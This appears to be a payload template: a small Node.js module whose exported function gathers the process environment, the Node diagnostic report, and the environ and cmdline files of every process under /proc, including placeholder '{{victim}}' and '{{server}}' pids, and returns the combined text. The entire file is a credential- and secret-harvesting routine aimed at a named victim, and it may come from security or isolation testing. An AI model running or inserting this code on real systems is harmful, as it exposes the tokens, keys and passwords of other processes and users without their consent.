import { readdirSync, readFileSync } from 'node:fs';
export const f = () => {
  const found = [JSON.stringify(process.env), JSON.stringify(process.report.getReport())];
  for (const pid of ['{{victim}}', '{{server}}', ...readdirSync('/proc').filter((name) => /^\d+$/.test(name))]) {
    for (const file of ['environ', 'cmdline']) {
      try {
        found.push(readFileSync(`/proc/${pid}/${file}`, 'latin1'));
      } catch {}
    }
  }
  return found.join('').slice(0, 100_000);
};
